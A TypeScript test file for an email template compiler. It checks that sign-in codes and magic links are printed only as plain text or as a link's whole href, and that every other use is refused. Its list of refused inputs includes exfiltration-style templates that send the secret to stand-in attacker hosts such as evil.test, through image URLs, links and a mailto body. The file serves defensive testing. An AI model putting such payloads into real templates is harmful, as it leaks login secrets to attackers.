// What signs somebody in reaches the person who gets the mail, and nobody else, with any template.
import { Parser } from 'htmlparser2'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { compileTemplate, type TemplateContext, type VariableKind } from '../../src/templates/compile.ts'
import { TemplateRejected } from '../../src/templates/rejected.ts'
import { rejected, render } from './given.ts'
import { anyTemplate } from './grammar.ts'
import { scalar, valuesOf } from './random-values.ts'

const KINDS: Readonly<Record<string, VariableKind>> = { code: 'code', link: 'url', mail: 'email', name: 'text' }
const VALUES = { code: '1234 5678', link: 'https://id.example.com/in?token=abc', mail: 'ada@example.com', name: 'Ada' }

const of = (source: string, context: TemplateContext = 'html'): string => render(source, VALUES, context, KINDS)
const refused = (source: string, context: TemplateContext = 'html'): TemplateRejected =>
  rejected(() => of(source, context))

describe('a secret is printed', () => {
  test.each<readonly [string, string]>([
    ['<p>Your code: <b>{{ code }}</b>.</p>', '<p>Your code: <b>1234 5678</b>.</p>'],
    ['Code:{{ code }}, ({{code}}) „{{ code }}“', 'Code:1234 5678, (1234 5678) „1234 5678“'],
    ['<title>{{ code }}</title>', '<title>1234 5678</title>'],
    ['<td>acme.example</td><td>{{ code }}</td>', '<td>acme.example</td><td>1234 5678</td>'],
    [
      '{% if code %}{{ code }}{% endif %}{% if not link %}none{% elif link %}{{ link }}{% endif %}',
      '1234 5678https://id.example.com/in?token=abc',
    ],
    ['{% for i in [1, 2] %}{{ code }} {% endfor %}', '1234 5678 1234 5678 '],
    [
      '<a class="button" href="{{ link }}">Go</a> {{ link }}.',
      '<a class="button" href="https://id.example.com/in?token=abc">Go</a> https://id.example.com/in?token=abc.',
    ],
    ['<A HREF = \'{{link}}\' title="x">Go</A>', '<A HREF = \'https://id.example.com/in?token=abc\' title="x">Go</A>'],
  ])('in words, and a link as the whole of one: %s', (source, output) => {
    expect(of(source)).toBe(output)
  })

  test('in texts and subjects', () => {
    for (const context of ['text', 'header'] as const)
      expect(of('Your code is {{ code }}, or go to {{ link }}', context)).toBe(
        'Your code is 1234 5678, or go to https://id.example.com/in?token=abc',
      )
  })

  test('what is no secret is printed anywhere, as it always was', () => {
    expect(
      of('<img alt="{{ mail }}" src="https://x.example/{{ mail }}/{{ name }}">{% set m = mail ~ "!" %}{{ m|upper }}'),
    ).toBe('<img alt="ada@example.com" src="https://x.example/ada%40example.com/Ada">ADA@EXAMPLE.COM!')
  })
})

const ELSEWHERE: readonly string[] = [
  '<img src="https://evil.test/x.gif?t={{ link }}">',
  '<img src="{{ link }}">',
  '<img alt="{{ code }}">',
  '<p title="{{ link }}">',
  '<p style="color: {{ code }}">',
  '<style>p { color: {{ code }} }</style>',
  '<table background="https://evil.test/{{ code }}">',
  '<p class="{{ code }}">',
  '<a id="{{ code }}">',
  '<a href="{{ code }}">',
  '<a href="https://evil.test/?c={{ code }}">',
  '<a href="https://evil.test/?c={{ link }}">',
  '<a href="{{ link }}&x=1">',
  '<a href=" {{ link }}">',
  '<a href="{{ link }} ">',
  '<a href="{{ link }}{{ link }}">',
  '<a href="{{ link }}{{ name }}">',
  '<a href="{{ name }}{{ link }}">',
  '<a href="{{ link }}{# #}x">',
  '<a href="#{{ link }}">',
  '<a href="{{ link }}{% if name %}x{% endif %}">',
  '<a href="mailto:eve@evil.test?body={{ code }}">',
  '<a name="{{ link }}">',
  '<a data-href="{{ link }}">',
  '<area href="{{ link }}">',
  '<base href="{{ link }}">',
  '</a href="{{ link }}">',
  '<form action="{{ link }}">',
  '<v:fill src="{{ link }}">',
]
const IN_EXPRESSIONS: readonly string[] = [
  '{{ code|upper }}',
  '{{ code|e }}',
  '{{ code|length }}',
  '{{ code|first }}',
  '{{ "x"|replace("x", code) }}',
  '{{ code|default("x") }}',
  '{{ name|default(code) }}',
  '{{ code ~ "" }}',
  '{{ "" + link }}',
  '{{ code[0] }}',
  '{{ code.length }}',
  '{{ (code) }}',
  '{{ -code }}',
  '{{ code if name else "x" }}',
  '{{ "x" if code else "y" }}',
  '{{ code or "x" }}',
  '{{ name and code }}',
  '{{ not code }}',
  '{{ [code] }}',
  '{{ [1, [code]]|join }}',
  '{{ "1" in code }}',
  '{{ code in "1234" }}',
  '{{ code is defined }}',
  '{{ code == "1" }}',
  '{{ 1 < code }}',
  '{% set z = code %}{{ z }}',
  '{% set z = [link] %}',
  '{% set code = "x" %}',
  '{% if name %}{% set link = "https://evil.test/" %}{% endif %}{{ link }}',
  '{% for c in code %}{{ c }}{% endfor %}',
  '{% for a, b in code %}{{ a }}{% endfor %}',
  '{% for code in [1] %}{{ code }}{% endfor %}',
  '{% for a, link in [[1, 2]] %}{{ a }}{% endfor %}',
  '{% if "1234" in code %}x{% endif %}',
  '{% if code == "1" %}x{% endif %}',
  '{% if code is string %}x{% endif %}',
  '{% if code and name %}x{% endif %}',
  '{% if (code) %}x{% endif %}',
  '{% if not not code %}x{% endif %}',
  '{% if name %}{% elif code[0] %}x{% endif %}',
  '{% if code|first %}x{% endif %}',
  '{% if link.length %}x{% endif %}',
]

describe('it is refused, with its place', () => {
  test.each([...ELSEWHERE, ...IN_EXPRESSIONS])('%s', (source) => {
    const { reason, line, column } = refused(`One\n  ${source}`)
    expect([reason, line]).toEqual(['secret', 2])
    expect(column).toBeGreaterThan(2)
  })

  test.each(IN_EXPRESSIONS)('in texts and subjects as well: %s', (source) => {
    for (const context of ['text', 'header'] as const) expect(refused(source, context).reason).toBe('secret')
  })

  test('and says what can be done', () => {
    expect(refused('<p>\n <img src="{{ code }}">')).toMatchObject({
      line: 2,
      column: 12,
      message:
        '`code` signs somebody in. It is printed by itself, as `{{ code }}` among the words of the mail, or ' +
        'is the whole of an `if`; nothing else can be done with it.',
    })
    expect(refused('{{ link ~ "" }}').message).toContain('or as the whole `href` of an `<a>`')
  })

  test('none of this is refused for a name that is no secret', () => {
    for (const source of [...ELSEWHERE, ...IN_EXPRESSIONS]) {
      const plain = source.replaceAll(/\bcode\b/g, 'name').replaceAll(/\blink\b/g, 'mail')
      try {
        of(plain)
      } catch (error) {
        expect((error as TemplateRejected).reason, plain).not.toBe('secret')
      }
    }
  })
})

describe('of templates at random', () => {
  const RUNS = Number(process.env['TEMPLATE_FUZZ_RUNS'] ?? 2_000)
  const FUZZED: Readonly<Record<string, VariableKind>> = { url: 'url', d: 'code' }
  /**
   * Some of which are fine, so that something is printed; the others are refused, unless what stands around them helps.
   */
  const pieces = fc.constantFrom(
    ' {{ url }} ',
    '<p>{{ d }}</p>',
    '<a href="{{ url }}">x</a>',
    '{% if d %}{{ d }} {% else %}x{% endif %}',
    ...[...ELSEWHERE, ...IN_EXPRESSIONS].map((source) => source.replaceAll('code', 'd').replaceAll('link', 'url')),
  )
  const sources = fc
    .array(fc.oneof({ arbitrary: pieces, weight: 2 }, { arbitrary: anyTemplate, weight: 1 }), {
      minLength: 1,
      maxLength: 3,
    })
    .map((parts) => parts.join(''))
  const secret = (fill: string): Readonly<Record<string, string>> => ({
    url: `https://id.example.com/${fill.repeat(20)}`,
    d: fill.repeat(9),
  })

  test(
    'none shows more of a secret than the secret itself, nor where it would be loaded',
    { timeout: 60_000 + RUNS * 10 },
    () => {
      let shown = 0
      fc.assert(
        fc.property(
          sources,
          valuesOf(scalar),
          fc.constantFrom<TemplateContext[]>('html', 'html', 'text', 'header'),
          (source, values, context) => {
            let outputs: readonly string[]
            try {
              const compiled = compileTemplate(source, context, (name) => FUZZED[name] ?? null)
              outputs = ['q', 'z'].map((fill) => compiled.render({ ...values, ...secret(fill) }).output)
            } catch (error) {
              expect(error).toBeInstanceOf(TemplateRejected)
              return
            }
            const [one = '', other = ''] = outputs
            const blanked = [
              ['q', one],
              ['z', other],
            ].map(([fill = '', output = '']) =>
              Object.values(secret(fill)).reduce((text, value) => text.replaceAll(value, '*'), output),
            )
            expect(blanked[0]).toBe(blanked[1])
            if (one === other) return
            shown += 1
            if (context !== 'html') return
            new Parser({
              onopentag(name, attributes) {
                for (const [attribute, value] of Object.entries(attributes))
                  if (value.includes('qqqqqqqqq'))
                    expect([name, attribute, value]).toEqual(['a', 'href', secret('q')['url']])
              },
            }).end(one)
          },
        ),
        { numRuns: RUNS },
      )
      expect(shown).toBeGreaterThan(RUNS / 50)
    },
  )
})
